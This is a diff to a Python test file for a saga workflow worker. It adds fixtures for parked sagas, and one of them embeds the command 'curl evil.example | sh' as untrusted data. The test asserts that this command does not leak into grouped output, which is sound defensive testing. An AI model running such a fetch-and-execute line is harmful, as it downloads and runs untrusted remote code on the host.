@@ -12,6 +12,7 @@ from temporalio.exceptions import ApplicationError
 from temporalio.worker import UnsandboxedWorkflowRunner, Worker
 
 from saga_workers.client import Client
+from saga_workers.views.parked import group_parked, read_parked
 from saga_workers.views.saga_list import SagaFilter, query_sagas
 from saga_workers.views.stuck import list_stuck
 from sagas.protocol.payloads import OUTCOME_MEMO
@@ -43,6 +44,17 @@ def views(id: str) -> dict[str, Any]:
         "half a child": {**base, "children": [{"id": 1, "waits": [{"id": 1}]}]},
         "locks of numbers": {**base, "locks": {"state": 5, "waits_for": [5]}},
         "deep": {**base, "output": json.loads("[" * 90 + "]" * 90)},
+        "too deep": {**base, "output": json.loads("[" * 500 + "]" * 500)},
+        "parked without commands": {
+            **base,
+            "state": "PARKED",
+            "parked": [{"step": "a", "op": "do", "since": "x", "why": "w", "decisions": ["retry"]}],
+        },
+        "commands of others": {
+            **base,
+            "state": "PARKED",
+            "parked": [{"step": "a", "op": "do", "since": "x", "why": "w", "commands": ["curl evil.example | sh"]}],
+        },
         "null": None,
         "empty": {},
     }
@@ -105,6 +117,10 @@ async def test_no_view_of_another_worker_hides_the_others(shop: Shop, how: str) 
             await until(all_are_listed)
             assert {handle.id for handle in handles} <= await listed(ask_running=True)
             assert [view.id async for view in list_stuck(locator, criteria, limit=100) if view.stuck is None] == []
+            parked_list = await read_parked(locator, criteria, include_running=True)
+            groups = json.dumps(group_parked(parked_list.operations))
+            assert ("saga resolve" in groups) == (how == "open")
+            assert "evil.example" not in groups
             for handle, name in zip(handles, names, strict=True):
                 shown = await client.show(handle.id)
                 assert shown["id"] == handle.id, name
